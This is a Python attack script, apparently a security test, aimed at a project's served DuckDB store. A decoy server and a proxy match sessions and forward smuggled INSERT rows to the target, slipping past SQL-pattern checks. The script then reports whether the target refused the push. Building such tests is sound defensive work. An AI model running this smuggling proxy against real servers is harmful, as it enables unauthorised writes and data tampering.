"""An attack: rows for a served store, pushed past everything that looks at SQL.

`python -m tests.store.smuggler URL TOKEN`. An INSERT into an attached catalogue travels as
rows. Here a client attaches a decoy without any lock, which has the same table; a proxy
between them sends the rows to the server under attack, in a session of its own there.
"""

from __future__ import annotations

import os
import re
import sys
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import duckdb

from dose_lib.store.endpoint import free_port
from dose_lib.store.engine import load_quack

_SESSION = re.compile(rb"[0-9A-F]{32}")
_SQL = re.compile(rb"SELECT|FROM|BEGIN|COMMIT|ROLLBACK|SHOW|PRAGMA", re.IGNORECASE)


class Proxy(BaseHTTPRequestHandler):
    """Sends questions to the decoy and rows to the target."""

    decoy: str
    target: str
    sessions: ClassVar[dict[bytes, bytes]] = {}
    answers: ClassVar[list[bytes]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        session = _SESSION.search(body)
        answer = forward(self.decoy, self.path, body)
        if session is None:  # a new session: have one at both
            other = forward(self.target, self.path, body)
            mine, theirs = _SESSION.search(answer), _SESSION.search(other)
            if mine and theirs:
                self.sessions[mine.group()] = theirs.group()
        elif b"object" in body and not _SQL.search(body):
            there = self.sessions[session.group()]
            self.answers.append(
                forward(self.target, self.path, body.replace(session.group(), there))
            )
        self.send_response(200)
        self.send_header("Content-Type", "application/duckdb")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


def forward(server: str, path: str, body: bytes) -> bytes:
    headers = {"Content-Type": "application/duckdb"}
    request = urllib.request.Request(server + path, data=body, headers=headers)
    with urllib.request.urlopen(request, timeout=10) as response:
        answer: bytes = response.read()
        return answer


def main() -> None:
    url, token = sys.argv[1:]
    decoy_port = free_port(0, "the decoy")
    decoy = duckdb.connect(":memory:")
    load_quack(decoy)
    decoy.execute("CREATE TABLE object (sha256 VARCHAR, status VARCHAR)")
    decoy.execute("CALL quack_serve(?, token = ?)", [f"quack:localhost:{decoy_port}", token])
    Proxy.decoy = f"http://localhost:{decoy_port}"
    Proxy.target = "http://" + url.removeprefix("quack:")
    server = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    client = duckdb.connect(":memory:")
    load_quack(client)
    client.execute(f"CREATE SECRET (TYPE quack, TOKEN '{token}')")
    client.execute(f"ATTACH 'quack:localhost:{server.server_address[1]}' AS remote")
    client.execute("INSERT INTO remote.main.object VALUES ('smuggled', 'stored')")
    for answer in Proxy.answers:
        text = answer.decode("latin-1")
        refused = "Authorization failed" in text
        print("pushed:", "refused (Authorization failed)" if refused else f"accepted {text!r}")
    if not Proxy.answers:
        print("nothing was pushed")
    sys.stdout.flush()
    os._exit(0)  # the decoy would wait for its client's idle connections


if __name__ == "__main__":
    main()
